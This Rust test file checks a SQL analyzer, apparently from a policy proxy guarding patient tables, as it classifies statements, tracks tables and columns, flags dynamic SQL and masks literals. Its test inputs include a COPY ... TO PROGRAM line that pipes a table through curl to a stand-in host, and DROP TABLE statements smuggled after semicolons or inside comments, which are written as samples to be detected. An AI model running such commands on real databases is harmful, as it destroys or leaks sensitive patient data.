//! Classification tests: what a policy author relies on.
use super::*;
use crate::mask::MaskConfig;

fn analyzer() -> Analyzer {
    Analyzer::new(
        &SqlConfig::default(),
        Masker::new(&MaskConfig::default(), None).unwrap(),
    )
}

fn one(sql: &str) -> Classification {
    let analysis = analyzer().analyze(sql);
    assert_eq!(analysis.statements.len(), 1, "{sql}");
    analysis.statements[0]
        .classification
        .clone()
        .unwrap_or_else(|e| panic!("{sql}: {e}"))
}

fn kinds(sql: &str) -> Vec<Option<StatementKind>> {
    analyzer()
        .analyze(sql)
        .statements
        .iter()
        .map(AnalyzedStatement::kind)
        .collect()
}

fn names(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

#[test]
fn select_tables_columns_where_limit() {
    let c = one(
        "SELECT p.ssn, upper(p.Name) AS n, v.* FROM Public.Patients p JOIN visits v ON v.pid = p.id WHERE p.id = 7 LIMIT 10",
    );
    assert_eq!(c.kind, StatementKind::Select);
    assert_eq!(c.tables_read, names(&["public.patients", "visits"]));
    assert!(c.tables_written.is_empty());
    let exprs: Vec<&str> = c.columns.iter().map(|c| c.expr.as_str()).collect();
    assert_eq!(exprs, ["p.ssn", "upper(p.Name)", "v.*"]);
    assert_eq!(c.columns[1].output_name(), "n");
    assert_eq!(c.columns[0].output_name(), "ssn");
    assert!(c.has_where && c.has_limit);
    assert_eq!(c.limit, Some(10));
    assert_eq!(c.dynamic, None);
}

#[test]
fn select_star_without_where_or_limit() {
    let c = one("select * from patients");
    assert_eq!(
        c.columns,
        [ProjectedColumn {
            expr: "*".into(),
            alias: None
        }]
    );
    assert!(!c.has_where && !c.has_limit && c.limit.is_none());
    let fetch = one("select * from patients fetch first 5 rows only");
    assert_eq!((fetch.has_limit, fetch.limit), (true, Some(5)));
    let param = one("select * from patients limit $1");
    assert_eq!((param.has_limit, param.limit), (true, None));
}

#[test]
fn projected_literals_are_stripped() {
    let c = one("select coalesce(ssn, '123-45-6789') from patients");
    assert_eq!(c.columns[0].expr, "coalesce(ssn, ?)");
}

#[test]
fn drop_in_any_case_and_spacing() {
    let c = one("DrOp   TaBlE patients");
    assert_eq!(c.kind, StatementKind::DropTable);
    assert_eq!(c.tables_written, names(&["patients"]));
    assert_eq!(one("drop database clinic").kind, StatementKind::DropDatabase);
    assert_eq!(one("drop schema s cascade").kind, StatementKind::DropSchema);
    assert_eq!(one("drop view v").kind, StatementKind::DropOther);
}

#[test]
fn drop_hidden_in_multi_statement_and_comments() {
    use StatementKind::*;
    assert_eq!(
        kinds("select 1; DROP TABLE patients; select 2"),
        [Some(Select), Some(DropTable), Some(Select)]
    );
    assert_eq!(kinds("/* x */ drop table t; -- y"), [Some(DropTable)]);
    assert_eq!(kinds("select '; drop table t;' as s"), [Some(Select)]);
    assert_eq!(kinds("select $x$ ; drop table t; $x$"), [Some(Select)]);
    assert_eq!(kinds("select 1 -- ; drop table t\n"), [Some(Select)]);
}

#[test]
fn quoted_identifiers_keep_case() {
    let c = one(r#"select "SSN" from "Clinic"."Patients" join "lower" on true"#);
    assert_eq!(c.tables_read, names(&[r#""Clinic"."Patients""#, "lower"]));
    assert_eq!(c.columns[0].expr, r#""SSN""#);
    // Same name spelled quoted and unquoted; only ASCII letters fold.
    let same = one(r#"select * from "patients" join PATIENTS on true join Pätients on true join "pätients" on true"#);
    assert_eq!(same.tables_read, names(&[r#""pätients""#, "patients"]));
}

#[test]
fn data_modifying_cte_is_the_modification() {
    let c = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
    assert_eq!(c.kind, StatementKind::Delete);
    assert_eq!(c.tables_written, names(&["t"]));
    assert!(
        c.tables_read.is_empty(),
        "CTE name d is not a table: {:?}",
        c.tables_read
    );
    assert!(!c.has_where);
    let u = one("with u as (update accounts set x = 1 where id = 2 returning id) select * from u join logs on true");
    assert_eq!((u.kind, u.has_where), (StatementKind::Update, true));
    assert_eq!(u.tables_read, names(&["logs"]));
}

#[test]
fn cte_names_hide_tables_only_where_in_scope() {
    // A CTE named like a real table inside a subquery must not hide the
    // real table read outside it.
    let c = one("select * from patients, (with patients as (select 1) select * from patients) s");
    assert_eq!(c.tables_read, names(&["patients"]));
    // A non-recursive CTE body reads the real table of the same name.
    let shadow = one("with patients as (select * from patients where id > 1) select * from patients");
    assert_eq!(shadow.tables_read, names(&["patients"]));
    // Later CTEs and the body see earlier CTEs.
    let chain = one("with a as (select * from t), b as (select * from a) select * from b");
    assert_eq!(chain.tables_read, names(&["t"]));
    // RECURSIVE: the CTE refers to itself.
    let rec = one("with recursive r as (select 1 union all select n + 1 from r) select * from r");
    assert!(rec.tables_read.is_empty(), "{:?}", rec.tables_read);
    // A qualified name is never a CTE.
    let q = one("with patients as (select 1) select * from public.patients");
    assert_eq!(q.tables_read, names(&["public.patients"]));
}

#[test]
fn table_command_is_a_read() {
    // The parser does not take a bare top-level `TABLE x`: refused as unparseable.
    let bare = analyzer().analyze("TABLE Clinic.Patients");
    assert!(bare.statements[0].classification.is_err());
    let u = one("select * from a union table Clinic.B");
    assert_eq!(u.tables_read, names(&["a", "clinic.b"]));
}

#[test]
fn dml_targets_and_sources() {
    let i = one("insert into archive (id) select id from patients where dob < '1950-01-01' returning id");
    assert_eq!(i.kind, StatementKind::Insert);
    assert_eq!(i.tables_written, names(&["archive"]));
    assert_eq!(i.tables_read, names(&["patients"]));
    assert_eq!(i.columns[0].expr, "id");
    let u = one("update patients set name = 'x' from visits v where v.pid = patients.id");
    assert_eq!((u.kind, u.has_where), (StatementKind::Update, true));
    assert_eq!(u.tables_written, names(&["patients"]));
    assert_eq!(u.tables_read, names(&["visits"]));
    let d = one("delete from patients");
    assert_eq!((d.kind, d.has_where), (StatementKind::Delete, false));
    let self_read = one("delete from t where id in (select id from t where x)");
    assert_eq!(self_read.tables_read, names(&["t"]));
    assert_eq!(one("truncate a, b").tables_written, names(&["a", "b"]));
}

#[test]
fn copy_both_directions() {
    let out = one("COPY (SELECT ssn FROM patients WHERE id > 1) TO STDOUT");
    assert_eq!(out.kind, StatementKind::CopyTo);
    assert_eq!(out.tables_read, names(&["patients"]));
    assert_eq!(out.columns[0].expr, "ssn");
    assert!(out.has_where);
    let table = one("copy patients (id, ssn) to stdout with (format csv)");
    assert_eq!(table.kind, StatementKind::CopyTo);
    assert_eq!(table.tables_read, names(&["patients"]));
    assert_eq!(table.columns.len(), 2);
    let inp = one("copy patients from stdin");
    assert_eq!(inp.kind, StatementKind::CopyFrom);
    assert_eq!(inp.tables_written, names(&["patients"]));
    let prog = one("copy patients to program 'curl -d @- http://x'");
    assert_eq!(prog.dynamic, Some(DynamicSql::CopyProgram));
}

#[test]
fn select_into_and_create_table_as_write_a_table() {
    let into = one("SELECT * INTO backup FROM patients");
    assert_eq!(into.kind, StatementKind::CreateTable);
    assert_eq!(into.tables_written, names(&["backup"]));
    assert_eq!(into.tables_read, names(&["patients"]));
    let ctas = one("CREATE TABLE b AS SELECT ssn FROM patients");
    assert_eq!(ctas.kind, StatementKind::CreateTable);
    assert_eq!(ctas.tables_written, names(&["b"]));
    assert_eq!(ctas.tables_read, names(&["patients"]));
}

#[test]
fn dynamic_sql_is_flagged() {
    let do_block = one("DO $$ BEGIN EXECUTE 'drop table t'; END $$");
    assert_eq!(do_block.kind, StatementKind::DoBlock);
    assert_eq!(do_block.dynamic, Some(DynamicSql::DoBlock));
    let dblink = one("select * from dblink('dbname=x', 'select ssn from patients') as t(s text)");
    assert_eq!(dblink.dynamic, Some(DynamicSql::Function { name: "dblink".into() }));
    assert!(dblink.tables_read.is_empty());
    let xml = one("select pg_catalog.QUERY_TO_XML('select * from patients', true, false, '')");
    assert_eq!(
        xml.dynamic,
        Some(DynamicSql::Function {
            name: "query_to_xml".into()
        })
    );
    let exec = one("execute stmt1(1)");
    assert_eq!(
        (exec.kind, exec.dynamic),
        (StatementKind::Execute, Some(DynamicSql::Execute))
    );
    assert_eq!(one("select lower(name) from t").dynamic, None);
}

#[test]
fn transaction_and_session_statements() {
    use StatementKind::*;
    assert_eq!(
        kinds("begin; set search_path = x; savepoint a; rollback to savepoint a; commit; show work_mem"),
        [
            Some(Begin),
            Some(Set),
            Some(Savepoint),
            Some(Rollback),
            Some(Commit),
            Some(Show)
        ]
    );
    assert_eq!(
        kinds("grant select on t to bob; revoke all on t from bob"),
        [Some(Grant), Some(Revoke)]
    );
    assert_eq!(
        one("alter table patients add column x int").tables_written,
        names(&["patients"])
    );
    let prepared = one("prepare q as delete from patients where id = $1");
    assert_eq!(prepared.kind, Prepare);
    assert_eq!(prepared.tables_written, names(&["patients"]));
}

#[test]
fn explain_runs_only_with_analyze() {
    let plain = one("explain delete from patients");
    assert_eq!(plain.kind, StatementKind::Explain);
    assert!(plain.tables_written.is_empty());
    let analyzed = one("explain analyze delete from patients");
    assert_eq!(analyzed.kind, StatementKind::Delete);
    assert!(analyzed.explain);
    assert_eq!(analyzed.tables_written, names(&["patients"]));
}

#[test]
fn unparseable_sql_is_a_clear_error_without_values() {
    let a = analyzer().analyze("select * from t where name = 'Jane Doe' garbage 'John Roe'");
    let err = a.statements[0].classification.clone().unwrap_err();
    let text = err.to_string();
    assert!(matches!(err, SqlError::Parse { line: Some(1), .. }), "{err:?}");
    assert!(!text.contains("John") && !text.contains("Jane"), "{text}");
    assert!(!a.all_parsed());

    let b = analyzer().analyze("select 'unterminated");
    assert!(matches!(b.statements[0].classification, Err(SqlError::Tokenize { .. })));
    assert_eq!(b.statements[0].normalized_text, "");

    // One bad statement does not hide the good ones around it.
    let c = analyzer().analyze("select 1; selec 2; drop table t");
    assert_eq!(c.statements.len(), 3);
    assert!(c.statements[1].classification.is_err());
    assert_eq!(c.statements[2].kind(), Some(StatementKind::DropTable));
}

#[test]
fn limits_refuse_huge_and_deep_sql() {
    let small = Analyzer::new(
        &SqlConfig {
            max_text_bytes: 20,
            ..SqlConfig::default()
        },
        Masker::new(&MaskConfig::default(), None).unwrap(),
    );
    let a = small.analyze("select * from patients where 1 = 1");
    assert!(matches!(a.statements[0].classification, Err(SqlError::TooLong { .. })));
    let deep = format!("select {}1{}", "(".repeat(5000), ")".repeat(5000));
    let d = analyzer().analyze(&deep);
    assert_eq!(d.statements[0].classification, Err(SqlError::TooDeep));
}

#[test]
fn empty_input_has_no_statements() {
    assert!(analyzer().analyze("").statements.is_empty());
    assert!(analyzer().analyze(" ;; -- nothing\n").statements.is_empty());
}

#[test]
fn texts_and_fingerprints_per_statement() {
    let a = analyzer().analyze("select * from p where ssn = '123-45-6789'; select * from p where ssn = '987-65-4321'");
    let [s1, s2] = a.statements.as_slice() else {
        panic!("two statements expected")
    };
    assert_eq!(s1.fingerprint, s2.fingerprint);
    assert_eq!(s1.normalized_text, "select * from p where ssn = ?");
    assert_eq!(s1.masked_text, "select * from p where ssn = '***'");
    assert_eq!(s1.fingerprint.to_string().len(), 16);
    let json = serde_json::to_value(s1).unwrap();
    assert_eq!(json["classification"]["kind"], "select");
    assert!(json["error"].is_null());
}

#[test]
fn config_parses_and_rejects_unknown_keys() {
    let c: SqlConfig = toml::from_str("cache_entries = 5\ndynamic_functions = [\"my_exec\"]").unwrap();
    assert_eq!(c.cache_entries, 5);
    assert_eq!(c.max_nesting, 50);
    assert!(toml::from_str::<SqlConfig>("cache = 5").is_err());
    let custom = Analyzer::new(&c, Masker::new(&MaskConfig::default(), None).unwrap());
    let s = &custom.analyze("select My_Exec('x')").statements[0];
    assert!(s.classification.as_ref().unwrap().dynamic.is_some());
}

/// Property-style: random and mutated SQL never panics, and every statement
/// either classifies or carries an error.
#[test]
fn garbage_never_panics() {
    let a = analyzer();
    let pieces = [
        "select",
        "from",
        "where",
        "(",
        ")",
        "'",
        "\"",
        "$$",
        "$1",
        ";",
        "--",
        "/*",
        "*/",
        "drop",
        "table",
        "with",
        "as",
        "delete",
        "copy",
        "to",
        "stdout",
        "e'\\'",
        "1e",
        "::",
        "[",
        "]",
        "do",
        "into",
        "é",
        "\u{0}",
        "\n",
        " ",
        "x",
        "42",
        "limit",
        "returning",
        "*",
        ",",
        ".",
        "\\",
        "$a$",
        "union",
        "insert",
        "values",
    ];
    let mut seed = 0x9e37_79b9_7f4a_7c15u64;
    let mut next = || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for _ in 0..3000 {
        let mut sql = String::new();
        for _ in 0..(next() % 24) {
            sql.push_str(pieces[(next() % pieces.len() as u64) as usize]);
            if next() % 2 == 0 {
                sql.push(' ');
            }
        }
        let analysis = a.analyze(&sql);
        for s in &analysis.statements {
            if let Ok(c) = &s.classification {
                assert!(c.tables_read.iter().chain(&c.tables_written).all(|t| !t.is_empty()));
            }
        }
    }
    // Random bytes as lossy UTF-8.
    for _ in 0..2000 {
        let bytes: Vec<u8> = (0..(next() % 64)).map(|_| next() as u8).collect();
        let _ = a.analyze(&String::from_utf8_lossy(&bytes));
    }
}

/// Property-style: whatever surrounds them, literal values never reach the
/// normalized text, the fingerprint input or the error messages.
#[test]
fn literals_never_reach_normalized_text_or_errors() {
    let a = analyzer();
    let pieces = [
        "select",
        "from",
        "where",
        "(",
        ")",
        ";",
        "--",
        "/*",
        "*/",
        "drop",
        "table",
        "with",
        "as",
        "delete",
        "copy",
        "to",
        "stdout",
        "::",
        "do",
        "into",
        "x",
        "42",
        "limit",
        "=",
        "*",
        ",",
        "$1",
        "union",
        "values",
        "'PHI''MARK'",
        "$$PHIMARK$$",
        "E'PHI\\'MARK'",
        "$q$PHIMARK$q$",
        "'PHIMARK'",
    ];
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    let mut next = || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for _ in 0..3000 {
        let sql: Vec<&str> = (0..(next() % 20))
            .map(|_| pieces[(next() % pieces.len() as u64) as usize])
            .collect();
        let sql = sql.join(" ");
        for s in &a.analyze(&sql).statements {
            assert!(
                !s.normalized_text.contains("MARK"),
                "{sql:?} -> {:?}",
                s.normalized_text
            );
            if let Err(e) = &s.classification {
                assert!(!e.to_string().contains("MARK"), "{sql:?} -> {e}");
            }
        }
    }
}

#[test]
fn copy_to_carries_a_query_with_the_same_columns() {
    assert_eq!(
        one("COPY patients TO STDOUT").copy_query.as_deref(),
        Some("SELECT * FROM patients")
    );
    assert_eq!(
        one("copy public.patients (id, ssn) to stdout with (format csv)")
            .copy_query
            .as_deref(),
        Some("SELECT id, ssn FROM public.patients")
    );
    let q = one("COPY (SELECT dob AS d FROM patients WHERE id = 3) TO STDOUT")
        .copy_query
        .unwrap();
    assert!(q.starts_with("SELECT dob AS d FROM patients"), "{q}");
    assert_eq!(one("COPY patients FROM STDIN").copy_query, None);
    assert_eq!(one("SELECT 1").copy_query, None);
}

#[test]
fn a_cursor_is_described_by_its_query() {
    let c = one("DECLARE c CURSOR FOR SELECT name, ssn FROM patients");
    assert_eq!(c.kind, StatementKind::DeclareCursor);
    assert_eq!(c.tables_read, names(&["patients"]));
    assert!(!c.has_where && !c.has_limit);
    assert_eq!(c.columns.len(), 2);
    let c = one("DECLARE c NO SCROLL CURSOR WITH HOLD FOR SELECT name FROM patients WHERE id = 1 LIMIT 5");
    assert!(c.has_where && c.has_limit);
    assert_eq!(c.limit, Some(5));
    assert_eq!(one("FETCH 100 FROM c").kind, StatementKind::Fetch);
}

/// pg_dump's and pg_dumpall's own statements (captured from a real run):
/// every one parses, and none calls a function lineage treats as opaque
/// (its result would be masked whole and pg_dump would choke on it).
#[test]
fn pg_dump_statements_are_analysed() {
    let a = analyzer();
    let fixture = include_str!("testdata/pg_dump_15.sql");
    let mut n = 0;
    for block in fixture.split("\n-- next\n") {
        for s in &a.analyze(block).statements {
            n += 1;
            let c = s.classification.as_ref().unwrap_or_else(|e| panic!("{e}:\n{block}"));
            assert!(c.unknown_functions.is_empty(), "{:?}:\n{block}", c.unknown_functions);
            if c.kind != StatementKind::Execute {
                assert_eq!(c.dynamic, None, "{block}");
            }
        }
    }
    assert!(n > 80, "{n} statements");
}

#[test]
fn sql_level_prepared_statements_are_followed() {
    let prepared = one("PREPARE dumpFunc(pg_catalog.oid) AS SELECT ssn FROM patients WHERE id = $1");
    let Some(PreparedOp::Prepare { name, statement }) = &prepared.prepared else {
        panic!("{:?}", prepared.prepared);
    };
    assert_eq!(name, "dumpfunc");
    assert_eq!(statement.kind, StatementKind::Select);
    assert_eq!(statement.tables_read, names(&["patients"]));
    assert_eq!(
        one("EXECUTE dumpFunc('1')").prepared,
        Some(PreparedOp::Execute {
            name: "dumpfunc".into()
        })
    );
    assert_eq!(
        one("EXECUTE \"Q\"").prepared,
        Some(PreparedOp::Execute { name: "\"Q\"".into() })
    );
    for all in ["deallocate all", "DEALLOCATE PREPARE ALL", "discard all"] {
        assert_eq!(one(all).prepared, Some(PreparedOp::Deallocate { name: None }), "{all}");
    }
    assert_eq!(
        one("deallocate prepare q").prepared,
        Some(PreparedOp::Deallocate { name: Some("q".into()) })
    );
    assert_eq!(one("select 1").prepared, None);
}

#[test]
fn catalog_operator_spelling_parses() {
    let c = one(
        "SELECT c.oid FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n \
         ON n.oid OPERATOR(pg_catalog.=) c.relnamespace \
         WHERE c.relkind OPERATOR(pg_catalog.=) ANY (array['r', 'S']) \
         AND c.relname OPERATOR(pg_catalog.~) '^(patients)$' COLLATE pg_catalog.default",
    );
    assert_eq!(c.kind, StatementKind::Select);
    assert_eq!(
        c.tables_read,
        names(&["pg_catalog.pg_class", "pg_catalog.pg_namespace"])
    );
}

/// Every output column of a query has its lineage entry (the sql_analyze
/// fuzz target checks the same on any text).
#[test]
fn every_output_column_has_a_lineage_entry() {
    let a = analyzer();
    for sql in [
        "select * from patients",
        "select p.*, 1 from patients p",
        "select ssn, email as e, upper(name) from patients where id = 1",
        "select ssn from patients union select 'x' from visits",
        "with c as (select ssn from patients) select * from c",
        "select x from patients, lateral (select email || '' as x) l",
        "select (select max(email) from patients) from generate_series(1, 2)",
        "values (1, 2)",
        "select distinct on (id) id, ssn from patients order by id",
        "insert into visits (patient) select id from patients returning id, patient",
    ] {
        for s in &a.analyze(sql).statements {
            let c = s.classification.as_ref().unwrap_or_else(|e| panic!("{sql}: {e}"));
            if let lineage::ResultLineage::Columns(columns) = &c.lineage.result
                && c.kind == StatementKind::Select
            {
                // (VALUES lists no projected columns; lineage has them.)
                assert!(
                    c.columns.is_empty() || columns.len() == c.columns.len(),
                    "{sql}: {columns:?} / {:?}",
                    c.columns
                );
            }
        }
    }
}
